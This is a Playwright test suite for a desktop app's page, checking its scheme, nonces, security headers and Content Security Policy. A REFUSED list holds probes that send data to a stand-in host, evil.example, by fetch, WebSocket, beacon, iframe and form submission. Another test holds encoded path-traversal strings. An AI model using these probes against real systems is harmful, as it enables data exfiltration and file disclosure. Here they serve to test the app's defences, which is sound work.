/** The page in the window: where it comes from, and what its policy keeps it from. */
import { expect, test } from '@playwright/test'
import { Desktop } from './desktop.ts'

test.describe.configure({ mode: 'serial' })
let desktop: Desktop
test.beforeAll(async () => {
  desktop = await Desktop.launch()
})
test.afterAll(() => desktop.close())

/** What stopped something that the page tried: a directive of its policy; `allowed` where the event `ran` came instead. */
const outcomeOf = async (attempt: () => Promise<unknown>): Promise<string> => {
  await desktop.page.evaluate(() => {
    const outcome = new Promise<string>((resolve) => {
      document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), { once: true })
      document.addEventListener('ran', () => resolve('allowed'), { once: true })
    })
    Object.assign(window, { outcome })
  })
  await attempt()
  return await desktop.page.evaluate(() => Reflect.get(window, 'outcome') as Promise<string>)
}

test('the window shows our page from its own scheme', async () => {
  expect(await desktop.address()).toBe('app://parley/index.html')
  await expect(desktop.page).toHaveTitle(/Parley/)
  await expect(desktop.page.locator('#app > *').first()).toBeVisible()
})

test('each load has a nonce of its own', async () => {
  const nonce = () => desktop.page.evaluate(() => document.querySelector<HTMLScriptElement>('script[nonce]')?.nonce)
  const first = await nonce()
  expect(first).toMatch(/^[A-Za-z0-9+/]{22}==$/)
  await desktop.page.reload()
  expect(await nonce()).not.toBe(first)
})

test('every address of the page’s router is the page', async () => {
  const titles = await desktop.page.evaluate(() =>
    Promise.all(
      ['/', '/index.html', '/join/abc-defg-hjk'].map(async (path) => {
        const response = await fetch(path)
        return [response.status, response.headers.get('content-type'), (await response.text()).includes('id="app"')]
      }),
    ),
  )
  expect(titles).toEqual(Array(3).fill([200, 'text/html; charset=utf-8', true]))
})

test('no path leads out of the page’s folder', async () => {
  const paths = [
    '/..%2fmain%2fmain.cjs',
    '/%2e%2e%2fmain%2fmain.cjs',
    '/..%5cmain%5cmain.cjs',
    '/assets/..%2f..%2fmain%2fmain.cjs',
    '/main.cjs',
  ]
  const statuses = await desktop.page.evaluate((all) => Promise.all(all.map(async (path) => (await fetch(path)).status)), paths)
  expect(statuses).toEqual(paths.map(() => 404))
})

test('headers that keep the page to itself', async () => {
  const headers = await desktop.page.evaluate(async () => Object.fromEntries((await fetch('/index.html')).headers))
  expect(headers).toMatchObject({
    'cross-origin-opener-policy': 'same-origin',
    'cross-origin-resource-policy': 'same-origin',
    'referrer-policy': 'no-referrer',
    'x-content-type-options': 'nosniff',
  })
  expect(headers['content-security-policy']).toContain("default-src 'none'")
})

test.describe('the policy', () => {
  test('no script is added to it, not even with the nonce of this load', async () => {
    const addScript = () =>
      desktop.page.evaluate(() => {
        const script = document.createElement('script')
        script.nonce = document.querySelector<HTMLScriptElement>('script[nonce]')?.nonce ?? ''
        script.append(`document.dispatchEvent(new Event('ran'))`)
        document.head.append(script)
      })
    expect(await outcomeOf(addScript)).toBe('require-trusted-types-for')
  })

  test('nothing but the encryption worker passes for trusted', async () => {
    for (const name of ['another', 'encryption-worker']) {
      const code = `try { trustedTypes.createPolicy('${name}', {}) } catch {}`
      expect(await outcomeOf(() => desktop.page.evaluate(`(() => { ${code} })()`)), name).toBe('trusted-types')
    }
  })

  const REFUSED: [string, string][] = [
    ['connect-src', `fetch('https://evil.example/').catch(() => 0)`],
    ['connect-src', `new WebSocket('wss://evil.example/')`],
    ['connect-src', `navigator.sendBeacon('https://evil.example/', 'x')`],
    ['img-src', `new Image().src = 'https://evil.example/x.png'`],
    ['media-src', `new Audio('https://evil.example/x.mp3').play().catch(() => 0)`],
    ['font-src', `new FontFace('x', 'url(https://evil.example/x.woff2)').load().catch(() => 0)`],
    ['frame-src', `document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' }))`],
    ['style-src-elem', `document.head.append(Object.assign(document.createElement('style'), { textContent: 'a{}' }))`],
    ['base-uri', `document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' }))`],
    [
      'form-action',
      `const form = document.createElement('form'); form.action = 'https://evil.example/'; document.body.append(form); form.submit()`,
    ],
    // Later, because what a debugger does may do what the page may not.
    ['require-trusted-types-for', `setTimeout(() => { try { eval('1') } catch {} })`],
    ['require-trusted-types-for', `try { document.body.innerHTML = '<b>x</b>' } catch {}`],
  ]
  test('what the page has no need of is refused', async () => {
    for (const [directive, code] of REFUSED) {
      expect.soft(await outcomeOf(() => desktop.page.evaluate(`(() => { ${code} })()`)), code).toBe(directive)
    }
  })

  test('the page itself offends none of it', async () => {
    const violations: string[] = []
    await desktop.page.exposeFunction('reportViolation', (directive: string) => violations.push(directive))
    await desktop.page.addInitScript(() => {
      document.addEventListener('securitypolicyviolation', (event) => {
        const report = Reflect.get(window, 'reportViolation') as (text: string) => void
        report(`${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber}`)
      })
    })
    await desktop.page.reload()
    await expect(desktop.page.locator('#app > *').first()).toBeVisible()
    await desktop.page.waitForLoadState('networkidle')
    expect(violations).toEqual([])
  })
})
